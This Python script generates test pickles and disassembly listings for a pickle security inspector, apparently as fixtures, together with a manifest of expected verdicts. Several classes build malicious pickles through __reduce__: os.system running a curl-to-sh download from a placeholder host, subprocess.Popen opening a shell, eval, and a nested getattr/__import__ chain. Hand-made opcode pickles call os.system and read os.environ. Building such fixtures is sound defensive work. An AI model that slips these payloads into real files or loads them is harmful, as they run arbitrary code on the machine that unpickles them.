"""Makes the pickle inspector's test pickles with real Python, and what
pickletools.dis prints for each.

python make_pickles.py OUT_DIR writes OUT_DIR/NAME.pkl, OUT_DIR/NAME.dis and
OUT_DIR/manifest.json: for each name, the verdict the inspector must give and
the globals it must name ("module.name") and call. Nothing here is loaded:
the malicious pickles are made, never unpickled.
"""

import collections
import datetime
import decimal
import io
import json
import os
import pickle
import pickletools
import subprocess
import sys

import numpy as np
import pandas as pd

OUT = sys.argv[1]
MANIFEST = {}


def save(name, data, verdict, imports=(), calls=()):
    with open(os.path.join(OUT, name + ".pkl"), "wb") as f:
        f.write(data)
    listing = io.StringIO()
    pickletools.dis(data, out=listing)
    with open(os.path.join(OUT, name + ".dis"), "w", encoding="utf-8") as f:
        f.write(listing.getvalue())
    MANIFEST[name] = {"verdict": verdict, "imports": list(imports), "calls": list(calls)}


# Plain data at every protocol: the opcodes of each one's ints, floats,
# strings, bytes, containers and memo.
shared = ["shared", 1]
recursive = [1, 2]
recursive.append(recursive)
DATA = {
    "ints": [0, 1, -1, 255, 256, 65535, 65536, -2**31, 2**31 - 1, 2**63, -2**100, 10**40],
    "floats": [0.0, -0.0, 1.5, 1e16, 1e-5, 3.141592653589793, float("inf"), float("-inf")],
    "text": ["", "plain", "it's", 'say "hi"', "both ' and \"", "tab\tnew\nline\\", "é ü 中文 😀",
             "\x00\x7f\x80\xa0\xad\u200b\ud800", "x" * 300],
    "bytes": [b"", b"\x00\x01\xff", b"it's", b"x" * 300],
    "bytearray": bytearray(b"\x00abc"),
    "consts": (None, True, False),
    "tuples": [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)],
    "sets": {1, 2, 3},
    "frozen": frozenset({"a"}),
    "nested": {"a": [{"b": (1, [2, {3: 4}])}]},
    "memo": [shared, shared, recursive],
}
for proto in range(6):
    save(f"data_proto{proto}", pickle.dumps(DATA, protocol=proto), "objects" if proto < 5 else "data",
         imports=[])
# (protocols 0-4 pickle bytearrays, and 0-3 sets, frozensets and bytes, as calls of
# builtins.set/frozenset/bytearray and bytes through _codecs.encode: still
# known data constructors, so the verdict is "objects" below protocol 5.)
for proto in range(6):
    save(f"plain_proto{proto}", pickle.dumps({"rows": [1, 2.5, "three", None, True], "n": 10**30}, protocol=proto),
         "data")
save("list_of_many", pickle.dumps(list(range(3000)), protocol=4), "data")
shared_lists = [[i] for i in range(300)]
save("memo_past_255", pickle.dumps(shared_lists + shared_lists, protocol=2), "data")


# Data science objects.
df = pd.DataFrame({"age": [31, 45, 27], "city": ["Oslo", "Lima", "Pune"], "score": [0.5, 0.25, 1.0]})
for proto in (2, 4, 5):
    save(f"pandas_frame_proto{proto}", pickle.dumps(df, protocol=proto), "objects",
         imports=["pandas.core.frame.DataFrame"])
save("pandas_series_dates", pickle.dumps(pd.Series(pd.date_range("2024-01-01", periods=3)), protocol=4), "objects")
arr = np.arange(12, dtype=np.float64).reshape(3, 4)
for proto in (2, 4, 5):
    save(f"numpy_array_proto{proto}", pickle.dumps(arr, protocol=proto), "objects",
         imports=["numpy._core.multiarray._reconstruct" if proto < 5 else "numpy._core.numeric._frombuffer"])
save("stdlib_objects", pickle.dumps({"when": datetime.datetime(2024, 5, 1, 12, 30), "amount": decimal.Decimal("1.10"),
                                    "counts": collections.OrderedDict(a=1, b=2)}, protocol=4), "objects",
     imports=["datetime.datetime", "decimal.Decimal", "collections.OrderedDict"])


# An sklearn-like model: a class of its own with __reduce__ and __setstate__.
class Model:
    def __init__(self, weights):
        self.weights = weights
        self.fitted = True

    def __reduce__(self):
        return (Model, (None,), {"weights": self.weights, "fitted": self.fitted})

    def __setstate__(self, state):
        self.__dict__.update(state)


Model.__module__ = "__main__"
Model.__qualname__ = "Model"
sys.modules["__main__"].Model = Model
for proto in (0, 2, 4):
    save(f"custom_model_proto{proto}", pickle.dumps(Model([0.1, 0.2, 0.3]), protocol=proto), "dangerous",
         imports=["__main__.Model"], calls=["__main__.Model"])


# Malicious pickles: __reduce__ returns a dangerous callable.
class System:
    def __reduce__(self):
        return (os.system, ("curl http://example.invalid/x.sh | sh",))


class Popen:
    def __reduce__(self):
        return (subprocess.Popen, (["/bin/sh", "-c", "id"],))


class Eval:
    def __reduce__(self):
        return (eval, ("__import__('os').system('id')",))


class GetAttr:
    """Nested reduce: getattr(__import__('os'), 'system')('id')."""

    class Import:
        def __reduce__(self):
            return (__import__, ("os",))

    class Lookup:
        def __call__(self, *args):
            raise AssertionError("never called: only pickled")

        def __reduce__(self):
            return (getattr, (GetAttr.Import(), "system"))

    def __reduce__(self):
        return (GetAttr.Lookup(), ("id",))


posix = os.name  # os.system pickles as posix.system on Linux
for proto in (0, 2, 4, 5):
    save(f"os_system_proto{proto}", pickle.dumps(System(), protocol=proto), "dangerous",
         imports=[f"{posix}.system"], calls=[f"{posix}.system"])
save("subprocess_popen", pickle.dumps(Popen(), protocol=4), "dangerous",
     imports=["subprocess.Popen"], calls=["subprocess.Popen"])
save("eval_proto2", pickle.dumps(Eval(), protocol=2), "dangerous", imports=["__builtin__.eval"], calls=["__builtin__.eval"])  # fix_imports names Python 2 modules
save("nested_reduce", pickle.dumps(GetAttr(), protocol=4), "dangerous",
     imports=["builtins.getattr", "builtins.__import__"], calls=["builtins.getattr", "builtins.__import__"])
save("model_with_payload", pickle.dumps({"model": Model([1.0]), "hook": System()}, protocol=4), "dangerous",
     imports=["__main__.Model", f"{posix}.system"], calls=[f"{posix}.system"])


# Protocol 5 out-of-band buffers.
buffers = []
big = np.arange(1000, dtype=np.int32)
save("out_of_band", pickle.dumps([pickle.PickleBuffer(b"abc"), big, pickle.PickleBuffer(bytearray(b"xy"))],
                                 protocol=5, buffer_callback=buffers.append), "objects")


# Opcodes Python 3's pickler no longer writes, written by hand.
save("handmade_py2_strings", b"(S'py2 \\'str\\''\np0\nS\"dq\\n\\x41\"\nU\x03abcT\x02\x00\x00\x00hiV\\u20ac\\\\u0041\nI01\nI00\nL123L\nF1.5\n2l.", "data")
save("handmade_inst", b"(I1\nS'x'\nidatetime\ndate\n.", "objects", imports=["datetime.date"], calls=["datetime.date"])
save("handmade_inst_os", b"(S'id'\nios\nsystem\n.", "dangerous", imports=["os.system"], calls=["os.system"])
save("handmade_obj", b"(cbuiltins\nset\n]o.", "objects", imports=["builtins.set"], calls=["builtins.set"])
save("handmade_persid", b"Pstorage0\nN\x85Q\x86.", "objects", calls=["persistent_load"])
save("handmade_ext", b"\x80\x02\x82\x01\x83\x02\x01\x84\x03\x00\x00\x00\x87.", "dangerous")
save("handmade_stack_ops", b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00(K\x01K\x0220000(1N\x8a\x00\x8b\x02\x00\x00\x00\xff\x7f\x87.", "data")
save("handmade_bytes8", b"\x80\x05\x8e\x02\x00\x00\x00\x00\x00\x00\x00ab\x8d\x02\x00\x00\x00\x00\x00\x00\x00\xc3\xa9\x96\x01\x00\x00\x00\x00\x00\x00\x00z\x97\x98\x87\x86.", "data")
save("handmade_newobj_ex", b"\x80\x04\x8c\x0bcollections\x8c\x0bOrderedDict\x93)}\x92\x94.", "objects",
     imports=["collections.OrderedDict"], calls=["collections.OrderedDict.__new__"])
save("handmade_build_global", b"\x80\x02cos\nenviron\n}(X\x01\x00\x00\x00aX\x01\x00\x00\x00bub.", "dangerous",
     imports=["os.environ"])

with open(os.path.join(OUT, "manifest.json"), "w") as f:
    json.dump(MANIFEST, f, indent=1)
